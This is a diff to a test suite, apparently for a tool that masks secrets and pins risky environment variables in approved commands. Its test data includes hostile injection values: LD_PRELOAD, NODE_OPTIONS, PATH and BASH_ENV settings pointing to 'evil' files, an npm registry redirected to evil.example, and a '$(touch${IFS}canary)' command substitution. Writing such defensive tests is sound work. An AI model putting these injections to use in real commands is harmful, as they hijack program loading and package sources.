@@ -18,10 +18,15 @@ describe('T4: an entry that was approved with something like a secret in it does
     ['a library for every program', ['env', 'LD_PRELOAD=evil.so', 'node', 'server.js']],
     ['one with a random name', ['env', 'NODE_OPTIONS=--require=/tmp/0123456789abcdef0123456789abcdef.cjs', 'node', 'server.js']],
     ['where programs are looked for', ['docker', 'run', '-e', 'PATH=evil:/usr/bin', 'image']],
+    ['where npm gets packages', ['env', 'NPM_CONFIG_REGISTRY=https://evil.example/', 'npm', 'exec', 'server']],
     ['behind the name of an option', ['docker', 'run', '--env=BASH_ENV=evil.sh', 'image']],
   ])('%s: pinned and shown as it is', (_, words) => {
     expect(withoutSecretWords(words)).toEqual(words);
     expect(words.some((_word, at) => pinned(words).isOpen(at))).toBe(false);
+  });
+  test('a password in an address is a secret all the same', () => {
+    const words = ['env', 'npm_config_registry=https://me:pass@npm.example/', 'npm', 'exec', 'server'];
+    expect(withoutSecretWords(words)).toContain('npm_config_registry=https://filled-in@npm.example/');
   });
   test.each<[string, readonly string[], string]>([
     ['a shell', ['bash', '-c', 'TOKEN=abc'], 'TOKEN=$(touch${IFS}canary)'],
